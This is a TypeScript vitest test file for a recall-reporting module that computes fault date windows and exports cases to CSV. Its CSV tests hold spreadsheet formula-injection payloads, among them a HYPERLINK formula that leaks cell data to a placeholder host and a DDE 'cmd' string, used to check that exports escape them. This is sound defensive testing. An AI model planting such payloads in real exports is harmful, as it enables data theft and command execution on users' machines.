import { expect, test } from 'vitest'
import { recallCsv } from '../../../src/reporting/recall/cases.ts'
import { faultWindow } from '../../../src/reporting/recall/window.ts'
import { openAlert, shifted, unknown } from '../../alerts/example.ts'

const line = (finding: ReturnType<typeof shifted>) => ({
  line: finding.line,
  firstNight: '2026-11-10',
  lastNight: '2026-11-10',
  whenShifted: finding,
})

test('the days of a fault run from its estimated beginning to the night of its closing, or to the last night', () => {
  const alert = openAlert(1, [shifted('B5', 'site=ED1')], { openedNight: '2026-11-10' })
  const story = { alert, lines: [line(shifted('B5', 'site=ED1'))] }
  expect(faultWindow(story, '2026-11-20')).toEqual({
    from: '2026-11-04',
    to: '2026-11-20',
    place: 'site=ED1',
    isOnsetKnown: true,
  })
  const closed = { ...alert, state: 'closed', closedNight: '2026-11-12', closedAs: 'fixed' } as const
  expect(faultWindow({ ...story, alert: closed }, '2026-11-20').to).toBe('2026-11-12')
})

test('where nothing says when it began, they begin on the first day counted in what was found, and say so', () => {
  const alert = openAlert(1, [shifted('E1', 'site=ED1')], { openedNight: '2026-11-10' })
  const { onset: _, ...quarter } = { ...shifted('E1', 'site=ED1'), from: '2026-07-01', to: '2026-09-30' }
  expect(faultWindow({ alert, lines: [line(quarter)] }, '2026-11-20')).toMatchObject({
    from: '2026-07-01',
    isOnsetKnown: false,
  })
  const silent = { alert, lines: [line(unknown('B5', 'too few cases'))] }
  expect(faultWindow(silent, '2026-11-20')).toMatchObject({ from: '2026-11-10', isOnsetKnown: false })
})

test('the days of a fault that a drill planted are no days of real cases', () => {
  const { onset: _, ...drill } = shifted('M1')
  const alert = openAlert(1, [drill], { openedNight: '2026-11-10' })
  expect(faultWindow({ alert, lines: [line(drill)] }, '2026-11-20').from).toBe('2026-11-10')
})

test('where a place and the whole have two estimates, the days begin with the earlier', () => {
  const seen = { measure: 'share', expected: 0.1 } as const
  const whole = { ...shifted('B5'), onset: '2026-11-02', effect: { ...seen, value: 0.2 } }
  const site = { ...shifted('B5', 'site=ED1'), onset: '2026-11-06', effect: { ...seen, value: 0.6 } }
  const alert = openAlert(1, [whole, site], { openedNight: '2026-11-10' })
  expect(faultWindow({ alert, lines: [line(whole), line(site)] }, '2026-11-20').from).toBe('2026-11-02')
})

test.each([
  ['=HYPERLINK("http://x.test?"&A1)', true],
  ["+cmd|' /C calc'!A0", true],
  ['@SUM(1)', true],
  ['\uFF1D1+1', true],
  ['-2Xq_z9A', false],
  ['+a/b==', false],
])('a token that a spreadsheet would run is marked as text, and a pseudonym is not: %s', (token, isMarked) => {
  const one = { subject: token, day: '2026-11-10', site: 'ED1', release: '1', flagged: 'No' }
  const csv = recallCsv([{ ...one, predictionId: token }])
  expect(csv.includes(`'${token.replaceAll('"', '""')}`)).toBe(isMarked)
})

test('a token stands as the feed sent it, and a site that begins like a formula is marked as text', () => {
  const one = { subject: 's', day: '2026-11-10', release: '1', flagged: 'No' }
  const csv = recallCsv([{ ...one, predictionId: '+a/b', site: '=1+1' }])
  expect(csv).toContain("\r\n+a/b,s,2026-11-10,'=1+1,1,No\r\n")
})

test('the list of a device that flags nobody has no column of flags', () => {
  const one = { predictionId: 'p1', subject: 's', day: '2026-11-10', site: 'ED1', release: '1' }
  expect(recallCsv([one]).replace('\uFEFF', '').split('\r\n').slice(0, 2)).toEqual([
    'prediction_id,subject,day,site,release',
    'p1,s,2026-11-10,ED1,1',
  ])
})
